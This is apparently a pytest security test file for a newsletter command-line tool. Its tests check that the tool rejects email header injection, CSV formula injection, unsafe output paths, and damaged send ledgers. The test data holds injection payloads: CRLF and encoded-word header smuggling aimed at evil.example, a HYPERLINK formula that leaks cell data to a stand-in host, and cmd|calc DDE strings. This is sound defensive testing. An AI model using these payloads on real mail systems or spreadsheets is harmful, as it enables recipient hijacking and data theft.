"""Hostile input on the mail channel: subscriber rows, issue titles, settings, output paths, SMTP secrets.

Each test reproduces an attack from issue 16 against the real thing: the CLI on a project copied
from tests/data/mail/project, messages parsed back from the .eml files, the mbox and from an
aiosmtpd server on 127.0.0.1; concurrency and crash tests run real processes.
"""

from __future__ import annotations

import base64
import csv
import email
import email.policy
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from email.header import decode_header, make_header
from pathlib import Path
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from click.testing import CliRunner

from newsletter.cli.app import main
from newsletter.mail import deliver, ledger
from tests.smtpserver import running_smtp
from tests.test_mail_smtp import Collector, SlowCollector, free_port

ROOT = Path(__file__).resolve().parents[1]
DATA = Path(__file__).parent / "data" / "mail"
SECRET = "hostile-test-secret-0123456789abcdef"


def _ew(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


# Every payload class of finding 1: raw CR, LF, CRLF, U+2028 and encoded words that decode to them.
PAYLOADS = {
    "cr": "Hi\rReply-To: attacker@evil.example",
    "lf": "Hi\nX-Injected: yes",
    "crlf": "Hi\r\nBcc: victim@evil.example",
    "u2028": "Hi\u2028X-Injected: yes",
    "nel_and_vt": "Hi\x85X-Injected: yes\x0bTo: victim@evil.example",
    "ew_header": _ew("\r\nReply-To: attacker@evil.example\r\nX-Injected: yes"),
    "ew_body": _ew("\r\n\r\nInjected body: click http://evil.example/win"),
    "ew_subject": "=?utf-8?b?SGkNClgtSW5qZWN0ZWQtU3ViamVjdDogeWVz?=",
    "ew_q": "=?utf-8?q?Hi=0D=0AX-Injected:_yes?=",
    "ew_mixed": "Zoë " + _ew("\r\nX-Injected: yes") + " tail",
}
EXPECTED_HEADERS = ["From", "To", "Subject", "Date", "Message-ID", "List-Id", "List-Unsubscribe",
                    "List-Unsubscribe-Post", "X-Newsletter-Issue", "MIME-Version", "Content-Type"]


def plain(text: str) -> str:
    """What a header must show for `text`: line breaks and controls as single spaces, nothing decoded."""
    return re.sub(r"\s+", " ", re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]", " ", text)).strip()


def make_project(tmp_path: Path, *, title: str = "A calm title", reader: str = "Reader",
                 sender: str = "Zoë at Test Weekly", list_name: str = "Test Weekly",
                 email_table: dict[str, str] | None = None, readers: int = 2) -> Path:
    root = tmp_path / "proj"
    shutil.copytree(DATA / "project", root)
    toml = (
        f"[newsletter]\nname = {json.dumps(list_name)}\nsite_url = \"https://weekly.example.org/\"\n\n"
        f"[sender]\nname = {json.dumps(sender)}\nemail = \"editors@weekly.example.org\"\n"
    )
    if email_table:
        toml += "\n[email]\n" + "".join(f"{key} = {json.dumps(value)}\n" for key, value in email_table.items())
    (root / "newsletter.toml").write_text(toml, encoding="utf-8")
    (root / "content" / "issues" / "007-hostile.md").write_text(
        f"---\nnumber: 7\ntitle: {json.dumps(title)}\ndate: 2025-03-21\nstatus: published\n---\n"
        "The body marker of issue seven.\n", encoding="utf-8")
    buffer = io.StringIO()
    writer = csv.writer(buffer)  # CRLF rows: a field holding a CR is quoted
    writer.writerow(["email", "name", "status", "subscribed_at"])
    for i in range(readers):
        writer.writerow([f"reader{i}@example.org", reader, "active", "2025-01-01T00:00:00Z"])
    (root / "subscribers.csv").write_text(buffer.getvalue(), encoding="utf-8", newline="")
    return root


@pytest.fixture(autouse=True)
def _environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NEWSLETTER_SECRET", SECRET)
    monkeypatch.delenv("NEWSLETTER_SMTP_USER", raising=False)
    monkeypatch.delenv("NEWSLETTER_SMTP_PASSWORD", raising=False)


def cli(project: Path, *args: str) -> Any:
    from tests.test_mail_smtp import list_send_flags

    return CliRunner().invoke(main, ["-C", str(project), *list_send_flags(args)], catch_exceptions=False)


def header_block(raw: bytes) -> list[str]:
    return raw.replace(b"\r\n", b"\n").split(b"\n\n", 1)[0].decode("ascii").split("\n")


def decoded(msg: email.message.Message, name: str, raw: bytes) -> str:
    """A header's text decoded by the standard (RFC 2047 compliant) decoder, from the raw lines."""
    lines = header_block(raw)
    start = next(i for i, line in enumerate(lines) if line.lower().startswith(name.lower() + ":"))
    value = lines[start].split(":", 1)[1]
    for line in lines[start + 1:]:
        if not line.startswith((" ", "\t")):
            break
        value += line
    return str(make_header(decode_header(value.strip())))


def assert_clean_message(raw: bytes, *, to: str, name: str, subject: str, sender: str, list_name: str) -> None:
    """Exactly our headers, each showing exactly the given text, and our two body parts."""
    for line in header_block(raw):
        assert line.startswith((" ", *(h + ":" for h in EXPECTED_HEADERS))), f"foreign header line {line!r}"
        assert len(line) <= 998 and line.isascii()
    msg = email.message_from_bytes(raw, policy=email.policy.default)
    assert list(msg.keys()) == EXPECTED_HEADERS
    assert msg.defects == [] and all(not h.defects for h in msg.values())  # type: ignore[attr-defined]
    assert decoded(msg, "Subject", raw) == subject
    assert decoded(msg, "To", raw) in as_address(name, to)
    assert decoded(msg, "From", raw) in as_address(sender, "editors@weekly.example.org")
    list_id = decoded(msg, "List-Id", raw)
    assert list_id.rpartition(" <")[0] in (list_name, quoted(list_name))
    assert [a.addr_spec for a in msg["To"].addresses] == [to]
    unsubscribe = str(msg["List-Unsubscribe"]).strip()
    assert re.fullmatch(r"<mailto:[^<>\s]+>, <https://weekly\.example\.org/unsubscribe\?[^<>\s]+>", unsubscribe)
    parts = list(msg.iter_parts())
    assert [p.get_content_type() for p in parts] == ["text/plain", "text/html"]
    assert all("The body marker of issue seven." in p.get_content() for p in parts)
    assert b"Injected body" not in raw, "an encoded word was decoded somewhere"


def quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def as_address(name: str, addr: str) -> set[str]:
    """The ways a decoded address header may show (name, addr): bare or quoted display name."""
    return {f"{name} <{addr}>", f"{quoted(name)} <{addr}>"}


@pytest.mark.parametrize("kind", sorted(PAYLOADS))
def test_no_header_can_be_injected_through_any_text_the_tool_writes(
    kind: str, tmp_path: Path, smtp: tuple[Collector, str]
) -> None:
    """Subscriber name (To), issue title (Subject), sender name (From), newsletter name (List-Id)."""
    payload = PAYLOADS[kind]
    project = make_project(tmp_path, title=payload, reader=payload, sender=payload, list_name=payload)
    expected = {"name": plain(payload), "subject": plain(payload), "sender": plain(payload),
                "list_name": plain(payload)}
    out, mbox = tmp_path / "out", tmp_path / "all.mbox"
    server, hostport = smtp
    for args in (("--out", str(out)), ("--mbox", str(mbox)), ("--smtp", hostport)):
        result = cli(project, "email", "7", *args)
        assert result.exit_code == 0, result.output
    raws = [p.read_bytes() for p in sorted(out.glob("*.eml"))]
    import mailbox

    raws += [m.as_bytes().replace(b"\n", b"\r\n") for m in mailbox.mbox(str(mbox))]
    raws += [raw for _from, _rcpt, raw in server.messages]
    assert len(raws) == 6
    for raw in raws:
        to = email.message_from_bytes(raw, policy=email.policy.default)["To"].addresses[0].addr_spec
        assert_clean_message(raw, to=to, **expected)
    assert sorted(r for _f, rcpts, _d in server.messages for r in rcpts) == ["reader0@example.org",
                                                                           "reader1@example.org"]


@pytest.mark.parametrize(("key", "value"), [
    ("unsubscribe_url", "https://weekly.example.org/u\r\nBcc: victim@evil.example"),
    ("unsubscribe_url", "https://weekly.example.org/u?x=" + PAYLOADS["ew_header"]),
    ("unsubscribe_url", "https://weekly.example.org/u> , <https://evil.example/"),
    ("unsubscribe_mailto", "x@weekly.example.org\r\nBcc: victim@evil.example"),
    ("unsubscribe_mailto", "x@weekly.example.org?subject=" + PAYLOADS["ew_header"]),
    ("sender_email", "editors@weekly.example.org\r\nRCPT TO:<victim@evil.example>"),
    ("list_id", "weekly.example.org> " + PAYLOADS["ew_header"]),
])
def test_settings_that_go_into_headers_are_refused_when_they_could_inject(
    key: str, value: str, tmp_path: Path, smtp: tuple[Collector, str]
) -> None:
    """List-Unsubscribe, MAIL FROM / From / Message-ID and List-Id come from newsletter.toml."""
    project = make_project(tmp_path, email_table={key: value})
    server, hostport = smtp
    for args in (("--mbox", str(tmp_path / "all.mbox")), ("--smtp", hostport)):
        result = cli(project, "email", "7", *args)
        assert result.exit_code == 1, result.output
        assert result.stderr.startswith(f"error: newsletter.toml: [email] {key}") or (
            key == "sender_email" and result.stderr.startswith("error: newsletter.toml: [sender] email")), result.stderr
        assert "Traceback" not in result.output and len(result.stderr.strip().splitlines()) == 1
    assert server.messages == [] and not (tmp_path / "all.mbox").exists()


def test_test_to_and_plain_names_still_read_naturally(tmp_path: Path, smtp: tuple[Collector, str]) -> None:
    project = make_project(tmp_path, title="Issue #7: Ünïcode & <b>tags</b>", reader='Ann "AJ" O\'Neil, PhD')
    server, hostport = smtp
    assert cli(project, "email", "7", "--smtp", hostport).exit_code == 0
    raw = server.messages[0][2]
    msg = email.message_from_bytes(raw, policy=email.policy.default)
    assert msg["Subject"] == "Issue #7: Ünïcode & <b>tags</b>"
    assert msg["To"].addresses[0].display_name == 'Ann "AJ" O\'Neil, PhD'
    assert msg["From"].addresses[0].display_name == "Zoë at Test Weekly"
    assert b"Subject: Issue #7: =?utf-8?b?" in raw, "only the word that needs it is encoded"


# -- finding 6: spreadsheet formulas in subscribers.csv ----------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "'=already quoted", "'plain apostrophe"]


def test_formulas_in_subscriber_cells_are_neutralized_on_write_and_read_back_intact(tmp_path: Path) -> None:
    project = make_project(tmp_path, readers=0)
    source = tmp_path / "incoming.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["email", "name", "subscribed_at"])
    for i, formula in enumerate(FORMULAS):
        writer.writerow([f"f{i}@example.org", formula, "=1+1"])
    writer.writerow(["=cmd|'/Ccalc'!A0@example.org", "\tTabbed", ""])  # a valid address that is a formula
    source.write_text(buffer.getvalue(), encoding="utf-8")
    result = cli(project, "subscribers", "import", str(source))
    assert result.exit_code == 0, result.output
    assert "imported 7 new subscriber(s)" in result.stdout
    cells = [cell for row in csv.reader(io.StringIO((project / "subscribers.csv").read_text("utf-8"))) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    listed = json.loads(cli(project, "subscribers", "list", "--json").stdout)["subscribers"]
    # "'=already quoted" arrived neutralized (as a spreadsheet-safe export would): its text is "=already quoted".
    names = [*FORMULAS[:4], "=already quoted", "'plain apostrophe", "Tabbed"]
    assert [s["name"] for s in listed] == names
    assert listed[-1]["email"] == "=cmd|'/Ccalc'!A0@example.org"
    assert {s["subscribed_at"] for s in listed[:-1]} == {"=1+1"}
    # A second write (unsubscribe) keeps every name exactly as it was.
    assert cli(project, "subscribers", "unsubscribe", "=cmd|'/Ccalc'!A0@example.org").exit_code == 0
    again = json.loads(cli(project, "subscribers", "list", "--json").stdout)["subscribers"]
    assert [s["name"] for s in again] == names and again[-1]["status"] == "unsubscribed"


# -- input files and arguments: clear errors ----------------------------------------------------------


def test_importing_an_empty_path_is_a_usage_error(tmp_path: Path) -> None:
    project = make_project(tmp_path)
    result = cli(project, "subscribers", "import", "")
    assert result.exit_code == 2 and "the path is empty" in result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_subscriber_files_are_read_as_utf16(encoding: str, tmp_path: Path) -> None:
    project = make_project(tmp_path, readers=0)
    source = tmp_path / "export.csv"
    source.write_bytes("email\tname\nzoe@example.org\tZoë Ünïcode\nbob@example.org\tBob\n".encode(encoding))
    result = cli(project, "subscribers", "import", str(source))
    assert result.exit_code == 0, result.output
    listed = json.loads(cli(project, "subscribers", "list", "--json").stdout)["subscribers"]
    assert [(s["email"], s["name"]) for s in listed] == [("zoe@example.org", "Zoë Ünïcode"), ("bob@example.org", "Bob")]


def test_a_legacy_8bit_file_is_refused_instead_of_imported_as_garbage(tmp_path: Path) -> None:
    project = make_project(tmp_path, readers=0)
    source = tmp_path / "export.csv"
    source.write_bytes("email,name\nzoe@example.org,Zoë\n".encode("cp1252"))
    result = cli(project, "subscribers", "import", str(source))
    assert result.exit_code == 1 and "save it as UTF-8 CSV" in result.stderr
    assert json.loads(cli(project, "subscribers", "list", "--json").stdout)["subscribers"] == []


# -- finding 21 and the site: output paths ---------------------------------------------------------------


def test_mbox_never_replaces_a_fifo_or_a_symlink(tmp_path: Path) -> None:
    project = make_project(tmp_path)
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    target = tmp_path / "precious.txt"
    target.write_text("keep me\n")
    link = tmp_path / "link.mbox"
    link.symlink_to(target)
    for path, kind in ((fifo, "FIFO"), (link, "symbolic link")):
        result = cli(project, "email", "7", "--mbox", str(path))
        assert result.exit_code == 2 and f"is a {kind}" in result.output, result.output
    assert fifo.is_fifo() and link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text() == "keep me\n"


def test_device_nodes_are_never_replaced() -> None:
    # Checked at the function (we run as root in CI: a failing CLI test would replace /dev/null).
    for device in ("/dev/null", "/dev/full"):
        with pytest.raises(deliver.OutputPathError, match="character device"):
            deliver.check_output_file(Path(device))


@pytest.mark.parametrize("path", ["/dev/null", "/proc/self", "/proc/self/x"])
def test_out_to_a_device_or_proc_is_a_clear_error(path: str, tmp_path: Path) -> None:
    project = make_project(tmp_path)
    result = cli(project, "email", "7", "--out", path)
    assert result.exit_code in (1, 2) and "Traceback" not in result.output
    assert f"--out {path}" in result.output or "--out" in result.output.splitlines()[-1]


def test_eml_files_are_not_written_through_symlinks(tmp_path: Path) -> None:
    project = make_project(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    target = tmp_path / "precious.txt"
    target.write_text("keep me\n")
    (out / "00001-reader0-example.org.eml").symlink_to(target)
    result = cli(project, "email", "7", "--out", str(out))
    assert result.exit_code == 1 and "is a symbolic link" in result.stderr
    assert target.read_text() == "keep me\n"


@pytest.mark.parametrize("inside", ["content", "content/issues", "pages", "pages/mail", "public/x", "content/x.mbox"])
def test_output_inside_the_site_is_refused(inside: str, tmp_path: Path) -> None:
    project = make_project(tmp_path)
    (project / "mkdocs.yml").write_text(
        "site_name: T\ndocs_dir: pages\nsite_dir: public\nmarkdown_extensions:\n  - pymdownx.emoji:\n"
        "      emoji_index: !!python/name:material.extensions.emoji.twemoji\n", encoding="utf-8")
    option = "--mbox" if inside.endswith(".mbox") else "--out"
    result = cli(project, "email", "7", option, str(project / inside))
    assert result.exit_code == 2 and "`newsletter build` publishes" in result.output, result.output
    assert not list(project.rglob("*.eml")) and not list(project.rglob("*.mbox"))
    # A symlink from elsewhere into the site is the same folder.
    (tmp_path / "sneaky").symlink_to(project / "content")
    assert cli(project, "email", "7", "--out", str(tmp_path / "sneaky")).exit_code == 2


# -- finding 17: SMTP password --------------------------------------------------------------------------

UTF8_PASSWORD = "pässwörd-ŝecret-ü"


@pytest.fixture
def utf8_auth_smtp(request: pytest.FixtureRequest) -> Iterator[tuple[Collector, str]]:
    from aiosmtpd.smtp import AuthResult, LoginPassword

    handler = Collector()

    def authenticator(server: Any, session: Any, envelope: Any, mechanism: str, data: Any) -> AuthResult:
        ok = isinstance(data, LoginPassword) and data.login == "curätor".encode() and \
            data.password == UTF8_PASSWORD.encode()
        return AuthResult(success=ok, handled=False)

    exclude = getattr(request, "param", ())
    controller = Controller(handler, hostname="127.0.0.1", port=free_port(), authenticator=authenticator,
                            auth_require_tls=False, auth_required=True, auth_exclude_mechanism=exclude)
    controller.start()
    try:
        yield handler, f"127.0.0.1:{controller.port}"
    finally:
        controller.stop()


@pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS")
def test_a_non_ascii_password_logs_in_or_fails_without_showing_any_of_it(
    tmp_path: Path, utf8_auth_smtp: tuple[Collector, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    project = make_project(tmp_path)
    server, hostport = utf8_auth_smtp
    monkeypatch.setenv("NEWSLETTER_SMTP_USER", "curätor")
    monkeypatch.setenv("NEWSLETTER_SMTP_PASSWORD", UTF8_PASSWORD)
    ok = cli(project, "email", "7", "--smtp", hostport, "--test-to", "curator@example.org")
    assert ok.exit_code == 0, ok.output
    assert len(server.messages) == 1
    monkeypatch.setenv("NEWSLETTER_SMTP_PASSWORD", "wröng-" + UTF8_PASSWORD)
    wrong = cli(project, "email", "7", "--smtp", hostport, "--test-to", "curator@example.org")
    assert wrong.exit_code == 1 and "refused the login" in wrong.stderr
    monkeypatch.setenv("NEWSLETTER_SMTP_PASSWORD", "bad-bytes-\udcff-here")  # not valid UTF-8 in the environment
    undecodable = cli(project, "email", "7", "--smtp", hostport, "--test-to", "curator@example.org")
    assert undecodable.exit_code == 1 and "not valid UTF-8" in undecodable.stderr
    for result in (ok, wrong, undecodable):
        assert "Traceback" not in result.output
        for char in set("äöŝü\udcff"):
            assert char not in result.output.replace("curätor", ""), char


@pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS")
@pytest.mark.parametrize("utf8_auth_smtp", [("PLAIN",)], indirect=True)
def test_a_non_ascii_password_without_auth_plain_is_a_clear_error(
    tmp_path: Path, utf8_auth_smtp: tuple[Collector, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    project = make_project(tmp_path)
    server, hostport = utf8_auth_smtp
    monkeypatch.setenv("NEWSLETTER_SMTP_USER", "curator")
    monkeypatch.setenv("NEWSLETTER_SMTP_PASSWORD", UTF8_PASSWORD)
    result = cli(project, "email", "7", "--smtp", hostport, "--test-to", "curator@example.org")
    assert result.exit_code == 1 and "offers no AUTH PLAIN" in result.stderr, result.output
    assert "Traceback" not in result.output and not set("äöŝü") & set(result.output) and server.messages == []


# -- finding 9: the ledger is not disposable -------------------------------------------------------------


def _damage(project: Path, how: str) -> None:
    path = ledger.ledger_path(project / ".newsletter", 7)
    if how == "truncated":
        for suffix in ("", "-wal", "-shm"):
            Path(f"{path}{suffix}").unlink(missing_ok=True)
        path.write_bytes(b"")
    elif how == "table dropped":
        with sqlite3.connect(path) as db:
            db.execute("DROP TABLE sends")
    elif how == "rows deleted":
        with sqlite3.connect(path) as db:
            db.execute("DELETE FROM sends WHERE key != 'reader0@example.org'")
    elif how == "garbage":
        for suffix in ("-wal", "-shm"):
            Path(f"{path}{suffix}").unlink(missing_ok=True)
        path.write_bytes(os.urandom(4096))
    elif how == "derived folder deleted":
        shutil.rmtree(project / ".newsletter")
    elif how == "replaced":
        path.unlink()
        Path(f"{path}-wal").unlink(missing_ok=True)
        with ledger.Ledger(path) as book:
            book.set_meta("send_id", "someothersend00")
            book.begin("someone@example.org", "someone@example.org", "<x@y>")


@pytest.mark.parametrize("how", ["truncated", "table dropped", "rows deleted", "garbage", "derived folder deleted",
                                 "replaced"])
def test_a_damaged_or_lost_ledger_stops_the_send_with_what_to_do(
    how: str, tmp_path: Path, smtp: tuple[Collector, str]
) -> None:
    project = make_project(tmp_path, readers=5)
    server, hostport = smtp
    assert cli(project, "email", "7", "--smtp", hostport).exit_code == 0
    record = json.loads((project / "sends" / "issue-7.json").read_text())
    assert record["sent"] == 5 and "example.org" not in json.dumps(record), "counts only, no addresses"
    _damage(project, how)
    for extra in ((), ("--resume",), ("--resume", "--dry-run")):
        result = cli(project, "email", "7", "--smtp", hostport, *extra)
        assert result.exit_code == 1, result.output
        assert "Traceback" not in result.output and len(result.stderr.strip().splitlines()) == 1
        assert "nothing was sent" in result.stderr and "Restore" in result.stderr, result.stderr
    assert len(server.messages) == 5, "nobody got the issue twice"


def test_a_send_killed_before_the_record_resumes_normally(tmp_path: Path, smtp: tuple[Collector, str]) -> None:
    """No record yet but a ledger (older version, or a crash right after the first `sending`): adopted."""
    project = make_project(tmp_path, readers=3)
    server, hostport = smtp
    path = ledger.ledger_path(project / ".newsletter", 7)
    with ledger.Ledger(path) as book:
        book.begin("reader0@example.org", "reader0@example.org", "<m@x>")
    result = cli(project, "email", "7", "--smtp", hostport, "--resume")
    assert result.exit_code == 0, result.output
    assert sorted(r for _f, rcpts, _d in server.messages for r in rcpts) == [f"reader{i}@example.org" for i in range(3)]
    assert json.loads((project / "sends" / "issue-7.json").read_text())["sent"] == 3


# The client side of finding 8's window: the 250 is read, `sent` is committed inside the SMTP
# transaction (before `send` even returns), and the process is SIGKILLed at once: the row must say
# `sent`, so `--resume` would not send it again. One process, real aiosmtpd, a real SIGKILL.
_KILLED_AFTER_THE_250 = """
import os, signal, sys
from pathlib import Path
from newsletter.mail import deliver, ledger
host, port = sys.argv[2].rsplit(":", 1)
book = ledger.Ledger(Path(sys.argv[1]), sending=True)
book.begin("r@example.org", "r@example.org", "<m@example.org>")
sender = deliver.SmtpSender(deliver.SmtpConfig(host, int(port), starttls=False))
def accepted(detail):
    book.answered("r@example.org", ledger.SENT, detail)
    os.kill(os.getpid(), signal.SIGKILL)  # no close, no checkpoint, no return from send()
message = b"From: a@example.org\\r\\nTo: r@example.org\\r\\nSubject: s\\r\\n\\r\\nbody\\r\\n"
sender.send("a@example.org", "r@example.org", message, before_end=lambda: book.in_doubt("r@example.org"),
            on_accepted=accepted)
"""


def test_sent_is_committed_before_send_returns_and_survives_sigkill(tmp_path: Path,
                                                                   smtp: tuple[Collector, str]) -> None:
    server, hostport = smtp
    path = tmp_path / "issue-1.sqlite"
    done = subprocess.run([sys.executable, "-c", _KILLED_AFTER_THE_250, str(path), hostport],
                          env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, timeout=60, check=False)
    assert done.returncode == -9, done.stderr.decode()
    assert len(server.messages) == 1
    with ledger.Ledger(path) as book:
        entry = book.entries()["r@example.org"]
    assert (entry.state, entry.detail.split()[0]) == (ledger.SENT, "250")


# -- finding 7: one send per issue at a time (real processes) ---------------------------------------------


def _spawn(project: Path, *args: str) -> subprocess.Popen[bytes]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.Popen([sys.executable, "-m", "newsletter", "-C", str(project), "email", "7", *args,
                             "--yes", "--force"],
                            env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)


@pytest.fixture
def slow_smtp() -> Iterator[tuple[Collector, str]]:
    with running_smtp(SlowCollector()) as server:
        yield server


def _wait_for(condition: Any, timeout: float = 60.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.01)


@pytest.mark.slow
def test_a_second_send_or_resume_refuses_while_a_send_is_live(tmp_path: Path, slow_smtp: tuple[Collector, str]) -> None:
    project = make_project(tmp_path, readers=40)
    server, hostport = slow_smtp
    first = _spawn(project, "--smtp", hostport)
    try:
        _wait_for(lambda: len(server.messages) >= 2 or first.poll() is not None)
        assert first.poll() is None, "the first send must still be running"
        second = _spawn(project, "--smtp", hostport)
        resume = _spawn(project, "--smtp", hostport, "--resume")
        for proc in (second, resume):
            _out, err = proc.communicate(timeout=60)
            assert proc.returncode == 1, err
            assert b"is being sent right now by another process (pid" in err and b"Traceback" not in err
        assert first.poll() is None, "both refused while the first was still sending"
        assert first.wait(timeout=120) == 0
    finally:
        first.kill()
        first.wait()
    counts = server.recipients()
    assert len(counts) == 40 and set(counts.values()) == {1}


@pytest.mark.slow
def test_two_sends_started_together_mail_everyone_once(tmp_path: Path, slow_smtp: tuple[Collector, str]) -> None:
    project = make_project(tmp_path, readers=30)
    server, hostport = slow_smtp
    procs = [_spawn(project, "--smtp", hostport) for _ in range(2)]
    codes = sorted(proc.wait(timeout=120) for proc in procs)
    assert codes == [0, 1]
    counts = server.recipients()
    assert len(counts) == 30 and set(counts.values()) == {1}
